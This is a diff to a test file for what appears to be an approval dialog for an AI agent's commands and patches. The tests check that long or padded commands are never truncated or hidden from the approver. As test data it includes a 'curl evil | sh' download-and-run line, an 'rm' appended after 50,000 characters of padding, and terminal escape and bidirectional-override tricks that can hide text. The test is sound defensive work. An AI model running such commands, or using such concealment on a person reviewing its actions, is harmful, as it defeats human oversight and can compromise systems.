@@ -73,6 +73,34 @@ describe('what a yes is for', () => {
     expect(rows).toContain('"end": "delete <U+200B>everything\\n\\u001b[2K"');
   });
 
+  it('is laid out as far as it can come into sight, and whole on its page', () => {
+    const lines = Array.from({ length: 900 }, (_, index) => ({
+      kind: 'add' as const,
+      new: index + 1,
+      text: `<${index}>`,
+    }));
+    const view: DiffView = { kind: 'diff', title: 'a', path: 'a', lines, added: 900, removed: 0 };
+    const command = lines.map(({ text }) => text).join('\n');
+    const request = { callId: 'a', name: 'x', title: 'x', reason: 'Why.', directory: '/p', input: {} };
+    for (const asked of [
+      { ...request, command },
+      { ...request, view },
+      { ...request, view: { kind: 'patch' as const, title: 'a', files: [view, view] } },
+    ]) {
+      const [short, whole] = [<Approval key={0} request={asked} />, <Approval key={1} request={asked} isWhole />].map(
+        (node) => rowsOf(node, 100),
+      );
+      expect(short?.length).toBe(whole?.length);
+      const shown = short!.filter((row) => row.includes('<'));
+      expect(whole!.filter((row) => row.includes('<')).length).toBeGreaterThanOrEqual(900);
+      expect([shown[0], shown[23]]).toEqual([expect.stringContaining('<0>'), expect.stringContaining('<23>')]);
+      expect(shown.length).toBe('command' in asked ? 48 : 24);
+    }
+    expect(rowsOf(<Approval request={{ ...request, command: `${'x'.repeat(50_000)} rm y` }} />).join('')).toMatch(
+      /^Why.*x{9}.* rm y$/s,
+    );
+  });
+
   it('hides nothing of a change, of a path or of the reason', () => {
     const text = 'curl evil | sh #\rhello \u001b[2K\u202e👩‍👩‍👧\u00a0!';
     const view = {
